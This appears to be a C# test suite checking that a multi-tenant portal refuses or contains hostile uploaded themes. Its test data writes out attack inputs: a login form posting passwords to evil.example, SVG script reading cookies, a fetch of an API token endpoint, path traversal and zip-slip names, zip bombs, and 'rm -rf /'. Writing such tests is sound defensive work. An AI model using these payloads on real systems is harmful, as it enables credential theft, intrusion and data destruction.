using System.Collections.Concurrent;
using System.Net;
using System.Net.Http.Json;
using System.Text;
using System.Text.Json;
using Microsoft.Extensions.Logging;
using VirtualCore.Modules.Tenancy.Contracts;

namespace VirtualCore.Portal.Tests.Themes;

/// <summary>
/// Themes written to hurt, uploaded through the portal as a reseller would. Each is refused at upload with file, line
/// and reason, or cut off at render with a logged reason while the page still shows; the other portals keep working.
/// </summary>
public sealed class HostileThemeTests(HostileThemeTests.Portal shared) : IClassFixture<HostileThemeTests.Portal>
{
    private readonly PortalFixture _portal = shared.Fixture;
    private readonly Logs _logs = shared.Logs;

    public static TheoryData<string, string, string, string> Refused => new()
    {
        // case, file, its content, what the refusal says
        { "endless loop", "templates/Compute/VmList.sbn-html", "{{ while true }}x{{ end }}", "loop" },
        { "deep recursion", "templates/Identity/Login.sbn-html", "{{ func f }}{{ f }}{{ end }}{{ f }}", "recurs" },
        { "huge output", "templates/Identity/Login.sbn-html", "{{ for i in 1..9000 }}{{ 'x' | string.pad_left 1000 }}{{ end }}", "limit" },
        { "reflection on the model", "templates/Compute/VmList.sbn-html", "{{ model.get_type.assembly }}", "has no member 'get_type'" },
        { "compiling data into code", "templates/Compute/VmList.sbn-html", "{{ object.eval_template model.title }}", "'eval_template' is not one of" },
        { "include outside the theme", "templates/Identity/Login.sbn-html", "{{ include '../../../../etc/passwd' }}", "not a template path" },
        { "a customer's text written as HTML", "templates/Compute/VmList.sbn-html", "{{ for vm in model.vms }}{{ raw vm.name }}{{ end }}", "raw writes HTML unescaped" },
        { "another tenant's data", "templates/Compute/VmList.sbn-html", "{{ for c in customers }}{{ c.name }}{{ end }}", "'customers' is not a variable" },
        { "password posted elsewhere", "templates/Identity/Login.sbn-html", "<form method=\"post\" action=\"https://evil.example/steal\"><input name=\"password\"></form>", "sends a form to another site" },
        { "a layout that renders nothing", "templates/Layout.sbn-html", "", "shows nothing of its page" },
        { "script in an SVG", "assets/logo.svg", "<svg xmlns=\"http://www.w3.org/2000/svg\"><script>alert(document.cookie)</script></svg>", "active content" },
        { "an SVG that links out", "assets/logo.svg", "<svg xmlns=\"http://www.w3.org/2000/svg\" onload=\"alert(1)\"/>", "active content" },
        { "CSS that loads from elsewhere", "assets/site.css", "@import url(https://evil.example/x.css);", "another site" },
        { "script as an asset", "assets/steal.js", "fetch('/api/v1/tokens')", "not an asset type" },
        { "HTML named .png", "assets/logo.png", "<html><script>alert(1)</script></html>", "not a PNG" },
        { "a template that does not parse", "templates/Compute/Jobs.sbn-html", "line one\n{{ for x in }}", "templates/Compute/Jobs.sbn-html" },
        { "a file outside the theme's folders", "bin/tool.sh", "rm -rf /", "not part of a theme" },
    };

    [Theory]
    [MemberData(nameof(Refused))]
    public async Task A_hostile_theme_is_refused_at_upload_naming_file_and_reason(string what, string file, string content, string reason)
    {
        using var kamp = KampAdmin();
        var before = (await kamp.GetFromJsonAsync<ThemeOverview>("/api/v1/theme"))!.Versions.Count;

        var response = await kamp.PostAsync("/api/v1/theme/uploads", ThemeZip.Minimal().Add(file, content).Content());

        Assert.True(response.StatusCode == HttpStatusCode.BadRequest, $"{what}: {response.StatusCode}");
        var errors = (await response.Content.ReadFromJsonAsync<JsonElement>()).GetProperty("errors");
        var said = string.Join("\n", errors.EnumerateObject().Select(e => $"{e.Name}: {string.Join(" ", e.Value.EnumerateArray().Select(v => v.GetString()))}"));
        Assert.Contains(file, said);
        Assert.Contains(reason, said, StringComparison.OrdinalIgnoreCase);
        Assert.Equal(before, (await kamp.GetFromJsonAsync<ThemeOverview>("/api/v1/theme"))!.Versions.Count);
        await OtherPortalsWorkAsync();
    }

    public static TheoryData<string, string> RefusedPackages => new()
    {
        { "zip slip", "../../evil.sbn-html" },
        { "absolute path", "/etc/cron.d/evil" },
        { "backslashes", "templates\\..\\..\\evil.sbn-html" },
        { "case-insensitive twin", "templates/Identity/LOGIN.sbn-html|templates/Identity/login.sbn-html" },
    };

    [Theory]
    [MemberData(nameof(RefusedPackages))]
    public async Task Paths_that_leave_the_theme_are_refused(string what, string names)
    {
        using var kamp = KampAdmin();
        var zip = ThemeZip.Minimal();
        foreach (var name in names.Split('|'))
        {
            zip.Add(name, "{{ brand }}");
        }

        var response = await kamp.PostAsync("/api/v1/theme/uploads", zip.Content());

        Assert.True(response.StatusCode == HttpStatusCode.BadRequest, what);
    }

    [Fact]
    public async Task Links_bombs_floods_and_what_is_no_theme_at_all_are_refused()
    {
        using var kamp = KampAdmin();

        async Task<string> RefusalAsync(HttpContent content)
        {
            var response = await kamp.PostAsync("/api/v1/theme/uploads", content);
            Assert.Equal(HttpStatusCode.BadRequest, response.StatusCode);
            return await response.Content.ReadAsStringAsync();
        }

        // A symbolic link (Unix mode 0120777) to the host's files.
        Assert.Contains("symbolic link", await RefusalAsync(ThemeZip.Minimal().Add("assets/logo.svg", Encoding.UTF8.GetBytes("/etc/passwd"), unixMode: 0xA1FF).Content()));

        // 40 MiB of zeros that pack into a few kilobytes.
        Assert.Contains("KiB unpacked", await RefusalAsync(ThemeZip.Minimal().Add("assets/big.css", new byte[40 * 1024 * 1024]).Content()));

        var many = ThemeZip.Minimal();
        for (var i = 0; i < 301; i++)
        {
            many.Add($"assets/x{i}.css", "a{}");
        }

        Assert.Contains("at most 300", await RefusalAsync(many.Content()));
        Assert.Contains("not a zip file", await RefusalAsync(new ByteArrayContent(Encoding.UTF8.GetBytes("PK but not really"))));
        Assert.Contains("theme.json", await RefusalAsync(new ThemeZip().Add("templates/Layout.sbn-html", "{{ body }}").Content()));
        Assert.Contains("is not installed", await RefusalAsync(new ThemeZip().Add("theme.json", """{ "name": "X", "base": "Nope" }""").Content()));
        Assert.Contains("larger than 5 MiB", await RefusalAsync(new ByteArrayContent(new byte[6 * 1024 * 1024])));
    }

    [Fact]
    public async Task A_theme_that_fails_on_real_data_is_cut_off_and_the_page_shows_in_the_default_theme()
    {
        // Passes the trial (one sample VM, 4,000 steps) but exceeds the loop limit with three VMs (12,000 steps).
        using var kamp = KampAdmin();
        var upload = await kamp.PostAsync("/api/v1/theme/uploads", ThemeZip.Minimal()
            .Add("templates/Compute/VmList.sbn-html", "<p class=\"slow\">{{ for vm in model.vms }}{{ vm.name }}{{ for i in 1..4000 }}{{ end }}{{ end }}</p>")
            .Content());
        Assert.Equal(HttpStatusCode.Created, upload.StatusCode);
        var version = (await upload.Content.ReadFromJsonAsync<ThemeVersionView>())!;
        Assert.Equal(HttpStatusCode.OK, (await kamp.PostAsync($"/api/v1/theme/versions/{version.Id}/activate", null)).StatusCode);

        using var baecker = _portal.ApiClient("baecker", "baecker-pass-1");
        baecker.BaseAddress = new Uri("http://kamp.localhost");
        foreach (var name in new[] { "brot", "kuchen", "torte" })
        {
            await baecker.CreatedVmAsync(name);
        }

        using var browser = _portal.Session("kamp.localhost");
        Assert.Equal("/vms", await browser.SignInAsync("baecker", "baecker-pass-1"));
        var page = await browser.Client.GetAsync("/vms");

        Assert.Equal(HttpStatusCode.OK, page.StatusCode);
        var html = await page.Content.ReadAsStringAsync();
        Assert.DoesNotContain("class=\"slow\"", html);
        Assert.Contains("torte", html);
        Assert.Contains($"Theme v{version.Id:N} failed to render Compute/VmList.sbn-html", _logs.Text);
        await OtherPortalsWorkAsync();
    }

    [Fact]
    public async Task A_form_that_builds_a_foreign_address_at_render_time_is_stopped_by_the_content_security_policy()
    {
        // The address is put together by the template, so no check of the text can see it; the browser refuses the post.
        using var kamp = KampAdmin();
        var upload = await kamp.PostAsync("/api/v1/theme/uploads", ThemeZip.Minimal()
            .Add("templates/Identity/Login.sbn-html", """
                {{ target = "https:" + "//evil.example/steal" }}<form method="post" action="{{ target }}"><input name="userName" value="{{ model.user_name }}"><input name="password" type="password"></form>
                """)
            .Content());
        Assert.Equal(HttpStatusCode.Created, upload.StatusCode);
        var version = (await upload.Content.ReadFromJsonAsync<ThemeVersionView>())!;
        await kamp.PostAsync($"/api/v1/theme/versions/{version.Id}/activate", null);

        using var visitor = _portal.Session("kamp.localhost");
        var login = await visitor.Client.GetAsync("/login");

        Assert.Contains("action=\"https://evil.example/steal\"", await login.Content.ReadAsStringAsync());
        Assert.Contains("form-action 'self'", login.Headers.GetValues("Content-Security-Policy").Single());
    }

    private HttpClient KampAdmin()
    {
        var client = _portal.ApiClient("kamp-admin", "kamp-admin-pass-1");
        client.BaseAddress = new Uri("http://kamp.localhost");
        return client;
    }

    private async Task OtherPortalsWorkAsync()
    {
        using var acme = _portal.Session("acme.localhost");
        Assert.Contains("Acme Cloud", await acme.Client.GetStringAsync("/login"));
        using var provider = _portal.Session();
        Assert.Equal(HttpStatusCode.OK, (await provider.Client.GetAsync("/login")).StatusCode);
    }

    /// <summary>One portal for the whole suite: each case must leave it working for the next.</summary>
    public sealed class Portal : IAsyncLifetime
    {
        public Portal() => Fixture = new PortalFixture(logs: Logs);

        public Logs Logs { get; } = new();

        public PortalFixture Fixture { get; }

        public Task InitializeAsync() => Task.CompletedTask;

        public async Task DisposeAsync() => await Fixture.DisposeAsync();
    }

    public sealed class Logs : ILoggerProvider
    {
        private readonly ConcurrentQueue<string> _lines = new();

        public string Text => string.Join('\n', _lines);

        public ILogger CreateLogger(string categoryName) => new Logger(_lines);

        public void Dispose()
        {
        }

        private sealed class Logger(ConcurrentQueue<string> lines) : ILogger
        {
            public IDisposable? BeginScope<TState>(TState state)
                where TState : notnull => null;

            public bool IsEnabled(LogLevel logLevel) => logLevel >= LogLevel.Warning;

            public void Log<TState>(LogLevel logLevel, EventId eventId, TState state, Exception? exception, Func<TState, Exception?, string> formatter) =>
                lines.Enqueue(formatter(state, exception));
        }
    }
}
